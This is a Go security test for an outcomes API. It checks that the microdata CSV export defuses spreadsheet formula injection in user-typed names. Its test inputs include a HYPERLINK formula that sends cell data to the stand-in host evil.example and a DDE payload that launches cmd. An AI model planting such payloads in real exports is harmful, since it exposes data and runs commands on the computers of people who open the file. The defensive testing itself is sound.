package securitytest_test

import (
	"context"
	"encoding/csv"
	"net/http"
	"strings"
	"testing"

	"github.com/rs/zerolog"

	"github.com/arbetsmarknad/outcomes/internal/app/apiserver/apitest"
	"github.com/arbetsmarknad/outcomes/internal/platform/auth"
	"github.com/arbetsmarknad/outcomes/warehouse/loader"
	"github.com/arbetsmarknad/outcomes/warehouse/pseudonym"
)

// TestExportsSafeInExcel: text a user typed (a unit's and a project's name) that a
// spreadsheet would run as a formula reaches every export neutralised (OWASP CSV
// injection: a leading quote), while numbers stay numbers. The microdata CSV is today's
// only export of this API (HTTP and `outcomesctl microdata` share analytics.Microdata);
// a new export adds its case here.
func TestExportsSafeInExcel(t *testing.T) {
	s := newServer(t)
	const unitName, projectName = `=HYPERLINK("https://evil.example/?d="&A1,"Klicka")`, "@SUM(1+1)*cmd|' /C calc'!A0"
	var unit struct{ CreateUnit struct{ ID string } }
	s.admin.MustData(t, `mutation($o: ID!, $n: String!) { createUnit(input: {organisationId: $o, name: $n}) { id } }`,
		map[string]any{"o": s.orgA, "n": unitName}, &unit)
	var project struct{ CreateProject struct{ ID string } }
	s.admin.MustData(t, `mutation($o: ID!, $n: String!) { createProject(input: {organisationId: $o, name: $n, funder: ESF,
		startDate: "2018-01-01"}) { id } }`, map[string]any{"o": s.orgA, "n": projectName}, &project)
	var p struct{ CreateParticipant struct{ ID string } }
	s.admin.MustData(t, `mutation($o: ID!, $p: String!) { createParticipant(input: {organisationId: $o, personalIdentityNumber: $p,
		givenName: "Ada", familyName: "Berg", gender: WOMAN}) { id } }`, map[string]any{"o": s.orgA, "p": s.pnr()}, &p)
	s.admin.MustData(t, `mutation($p: ID!, $u: ID!, $pr: ID!) { createEnrolment(input: {participantId: $p, measureTypeCode: "work_practice",
		startDate: "2018-02-01", endDate: "2018-09-30", exitReason: STUDIES, unitId: $u, projectId: $pr}) { id } }`,
		map[string]any{"p": p.CreateParticipant.ID, "u": unit.CreateUnit.ID, "pr": project.CreateProject.ID}, nil)
	l := &loader.Loader{PG: s.Owner, CH: s.Warehouse, Keys: pseudonym.New([]byte("securitytest-pseudonym-key-0123")), Log: zerolog.Nop()}
	if _, err := l.ProcessOnce(context.Background()); err != nil {
		t.Fatal(err)
	}

	req, _ := http.NewRequest(http.MethodGet, s.URL+"/microdata.csv?organisationId="+s.orgA+"&exitFrom=2018-01-01&exitTo=2019-01-01", nil)
	tok := apitest.Token(t, auth.Principal{Subject: "eva", Role: auth.Evaluator, OrgID: s.orgA})
	req.Header.Set("Authorization", "Bearer "+tok)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("microdata: HTTP %d", resp.StatusCode)
	}
	records, err := csv.NewReader(resp.Body).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(records) != 2 {
		t.Fatalf("microdata has %d lines, want a header and one enrolment", len(records))
	}
	header, row := records[0], records[1]
	cell := func(col string) string {
		for i, h := range header {
			if h == col {
				return row[i]
			}
		}
		t.Fatalf("no column %s in %v", col, header)
		return ""
	}
	for col, typed := range map[string]string{"unit": unitName, "project": projectName} {
		got := cell(col)
		if !strings.HasPrefix(got, "'") || !strings.Contains(got, typed) {
			t.Errorf("%s cell %q: want the typed text behind a leading quote", col, got)
		}
	}
	for i, v := range row {
		if v != "" && strings.ContainsRune("=+-@\t\r", rune(v[0])) && !isNumber(v) {
			t.Errorf("column %s starts with a formula character: %q", header[i], v)
		}
	}
	if got := cell("sa_3"); got != "-1" && got != "0" && got != "1" {
		t.Errorf("sa_3 = %q, want a number left as it is", got)
	}
}

func isNumber(s string) bool {
	s = strings.TrimPrefix(strings.TrimPrefix(s, "-"), "+")
	if s == "" {
		return false
	}
	for _, c := range s {
		if (c < '0' || c > '9') && c != '.' {
			return false
		}
	}
	return true
}
